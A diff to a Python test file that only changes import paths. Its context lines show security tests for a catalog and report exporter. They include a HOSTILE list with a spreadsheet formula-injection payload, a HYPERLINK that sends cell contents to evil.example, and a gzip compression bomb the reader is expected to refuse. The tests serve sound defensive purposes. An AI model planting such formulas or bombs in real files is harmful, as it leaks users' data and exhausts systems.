@@ -10,10 +10,10 @@ from pathlib import Path
 import pytest
 from openpyxl import Workbook, load_workbook
 
-from catalog.exporter import write_catalog
-from messages import Messages
-from reports.figures import DossierReport, DossierRow, Group, SatisfactionReport, Shares
-from reports.render import Labels, dossiers_xlsx, satisfaction_xlsx
+from tthc.catalog.exporter import write_catalog
+from tthc.messages import Messages
+from tthc.reports.figures import DossierReport, DossierRow, Group, SatisfactionReport, Shares
+from tthc.reports.render import Labels, dossiers_xlsx, satisfaction_xlsx
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?d="&A2,"Xem chi tiết")',
@@ -102,7 +102,7 @@ def _stale_dimension_workbook(path: Path, rows: int) -> None:
 
 
 def test_a_workbook_with_a_stale_dimension_is_read_whole(tmp_path: Path) -> None:
-    from catalog.records import read_catalog_file
+    from tthc.catalog.records import read_catalog_file
 
     path = tmp_path / "stale.xlsx"
     _stale_dimension_workbook(path, 49)
@@ -111,7 +111,7 @@ def test_a_workbook_with_a_stale_dimension_is_read_whole(tmp_path: Path) -> None
 
 
 def test_a_workbook_declaring_every_cell_is_refused_or_read_small(tmp_path: Path) -> None:
-    from catalog.records import CatalogFileError, read_catalog_file
+    from tthc.catalog.records import CatalogFileError, read_catalog_file
 
     path = tmp_path / "huge-dimension.xlsx"
     _stale_dimension_workbook(path, 3)
@@ -133,7 +133,7 @@ def test_a_workbook_declaring_every_cell_is_refused_or_read_small(tmp_path: Path
 def test_compression_bombs_are_refused(tmp_path: Path) -> None:
     import gzip
 
-    from catalog.records import CatalogFileError, read_catalog_file
+    from tthc.catalog.records import CatalogFileError, read_catalog_file
 
     bomb = tmp_path / "bomb.json.gz"
     bomb.write_bytes(gzip.compress(b"[" + b" " * (64 * 1024 * 1024) + b"]", 6))
